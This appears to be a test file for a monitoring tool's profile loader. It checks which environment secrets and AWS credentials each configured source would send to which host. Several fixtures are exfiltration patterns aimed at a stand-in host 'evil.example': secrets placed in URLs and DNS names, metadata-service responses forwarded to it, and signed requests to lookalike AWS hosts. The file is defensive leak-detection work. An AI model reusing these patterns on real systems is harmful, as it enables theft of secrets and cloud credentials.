// What of the environment a profile hands to whom: wherever a variable stands, but where it says itself who is asked.
import { expect, test } from 'vitest';
import { loadProfile } from '../../src/profile/load.ts';
import { sourceKinds } from '../../src/sources/registry.ts';
import { loaded, temporaryFolder } from './support/folder.ts';

const env = {
  BASE: 'https://api.example.com',
  SECRET: 'abcdef',
  WORD: 'jobs',
  HOST: 'db.example.com',
  NAME: 'n.example.com',
  BASE_TOKEN: 'https://hooks.example.com',
  REGION: 'us-east-1',
};

async function sendsOf(source: string, read = 'read: up', more = ''): Promise<readonly string[]> {
  const folder = await temporaryFolder();
  const file = await folder.write(
    'p.yaml',
    `profile: p/p\n${more}sources:\n  s: { ${source} }\nmetrics:\n  m: { title: "\${WORD}", from: s, ${read} }\n`,
  );
  const { sends } = loaded(await loadProfile(file, { ...folder.options(env), kinds: sourceKinds }));
  return sends.map(({ variable, to }) => `${variable} → ${to}`);
}

test.each([
  ['a base says who is asked', 'kind: http, url: "${BASE}/x"', []],
  [
    'and is told to nobody else',
    'kind: http, url: "${BASE}/${WORD}?k=${SECRET}"',
    ['SECRET → api.example.com', 'WORD → api.example.com'],
  ],
  [
    'a default in its place is the profile’s own address',
    'kind: http, url: "${NONE:-https://evil.example/${SECRET}}"',
    ['SECRET → evil.example'],
  ],
  ['it is what is used that counts', 'kind: http, url: "${BASE:-https://evil.example/${SECRET}}"', []],
  ['a part of a host', 'kind: http, url: "https://${WORD}.evil.example/"', ['WORD → jobs.evil.example']],
  ['a header', 'kind: http, url: "${BASE}", headers: { x-key: "${SECRET}" }', ['SECRET → api.example.com']],
  ['the profile’s own variable', 'kind: http, url: "{base}/{word}"', ['WORD → api.example.com']],
  [
    'a step',
    'kind: http, steps: [ { name: one, url: "${BASE}", headers: { a: "${SECRET}" } } ]',
    ['SECRET → api.example.com'],
  ],
  ['a name', 'kind: dns, name: "${WORD}.evil.example", type: A', ["WORD → this machine's resolver"]],
  ['what stays on this machine', 'kind: http, url: "http://127.0.0.1/?k=${SECRET}"', []],
  ['a socket’s host by its name', 'kind: http, url: "http://api.localhost/?k=${SECRET}"', []],
  ['what is on this wire', 'kind: http, url: "http://169.254.1.2/?k=${SECRET}"', ['SECRET → 169.254.1.2']],
  ['by either address', 'kind: http, url: "http://[fe80::2]/?k=${SECRET}"', ['SECRET → fe80::2']],
  [
    'a resolver on this machine, which asks others',
    'kind: dns, name: "${WORD}.evil.example", type: A, server: "127.0.0.53"',
    ['WORD → 127.0.0.53'],
  ],
  [
    'a secret in a host is not what it is told to',
    'kind: http, url: "https://${SECRET}.evil.example:8443/${WORD}"',
    ['SECRET → ${SECRET}.evil.example', 'WORD → ${SECRET}.evil.example'],
  ],
  [
    'of a base that is a secret',
    'kind: http, url: "${BASE_TOKEN}/x", headers: { a: "${WORD}" }',
    ['WORD → ${BASE_TOKEN}'],
  ],
])('%s', async (_, source, expected) => {
  const read = source.includes('dns')
    ? 'read: answers'
    : source.includes('steps')
      ? 'read: { step: one, read: status }'
      : 'read: up';
  expect(await sendsOf(source, read, 'vars: { base: "${BASE}", word: "${WORD}" }\n')).toEqual(expected);
});

test.each(['kind', 'region', 'every', 'timeout', 'settle', 'history', 'needs', 'url', 'x'])(
  'a header called %s is sent as any other, and so is what a request posts',
  async (name) => {
    const header = `kind: http, url: "\${BASE}", headers: { ${name}: "\${SECRET}" }`;
    expect(await sendsOf(header)).toEqual(['SECRET → api.example.com']);
    const step = `kind: http, steps: [ { name: one, url: "\${BASE}", headers: { ${name}: "\${SECRET}" } } ]`;
    expect(await sendsOf(step, 'read: { step: one, read: status }')).toEqual(['SECRET → api.example.com']);
  },
);

test('an answer that is carried to another host is sent there', async () => {
  const steps = (...given: readonly string[]): string =>
    `kind: http, steps: [ ${given.map((step, index) => `{ name: s${index}, ${step} }`).join(', ')} ]`;
  const read = 'read: { step: s0, read: status }';
  const first = 'url: "http://169.254.169.254/latest", keep: { a: /a, next: "header:Location" }';
  const sent = 'an answer of 169.254.169.254 → evil.example';
  for (const second of [
    'url: "https://evil.example/<<a>>"',
    'url: "https://evil.example/", headers: { x: "<<a>>" }',
    'url: "https://evil.example/", method: POST, body: "<<a>>", changes: nothing',
  ])
    expect(await sendsOf(steps(first, second), read)).toEqual([sent]);
  const followed = steps(first, 'url: "<<next>>", keep: { b: /b }', 'url: "https://evil.example/<<b>>"');
  expect(await sendsOf(followed, read)).toEqual([sent]);
  expect(await sendsOf(steps(first, 'url: "http://169.254.169.254/<<a>>"'), read)).toEqual([]);
  expect(await sendsOf(steps(first, 'url: "http://127.0.0.1/<<a>>"'), read)).toEqual([]);
});

test('the region stands in what is signed', async () => {
  const source = 'kind: cloudwatch, region: "${REGION}", endpoint: "https://c.example", anonymous: true';
  const read = 'read: { namespace: A, metric: m, stat: Sum, period: 60s }';
  expect(await sendsOf(source, read)).toEqual(['REGION → c.example']);
});

test('what a metric reads is asked of its source', async () => {
  const read = 'read: { list: "${WORD}" }';
  expect(await sendsOf('kind: redis, url: "redis://q.example:6379"', read)).toEqual(['WORD → q.example']);
});

test('what a command is given is agreed to with the command', async () => {
  expect(await sendsOf('kind: exec, command: ["a", "${SECRET}"]', 'read: ok')).toEqual([]);
});

test.each([
  ['', 'http://c.example:1', ['AWS credentials → c.example']],
  [', anonymous: true', 'http://c.example:1', []],
  ['', 'https://vpce-1.monitoring.us-east-1.vpce.amazonaws.com', []],
  ['', 'http://monitoring.us-east-1.amazonaws.com', ['AWS credentials → monitoring.us-east-1.amazonaws.com']],
  ['', 'https://amazonaws.com.evil.example', ['AWS credentials → amazonaws.com.evil.example']],
  ['', 'http://127.0.0.1:4566', []],
  ['', 'https://monitoring.eu-central-1.amazonaws.com', []],
  ['', 'https://monitoring-fips.us-gov-west-1.amazonaws.com', []],
  ['', 'https://monitoring.cn-north-1.amazonaws.com.cn', []],
  // Anybody may have these names.
  [
    '',
    'https://abc123.execute-api.us-east-1.amazonaws.com',
    ['AWS credentials → abc123.execute-api.us-east-1.amazonaws.com'],
  ],
  ['', 'https://monitoring.s3.amazonaws.com', ['AWS credentials → monitoring.s3.amazonaws.com']],
  ['', 'http://169.254.1.2:4566', ['AWS credentials → 169.254.1.2']],
])('a request that is signed%s for %s', async (more, endpoint, expected) => {
  const source = `kind: cloudwatch, region: us-east-1, endpoint: "${endpoint}"${more}`;
  const read = 'read: { namespace: A, metric: m, stat: Sum, period: 60s }';
  expect(await sendsOf(source, read)).toEqual(expected);
});
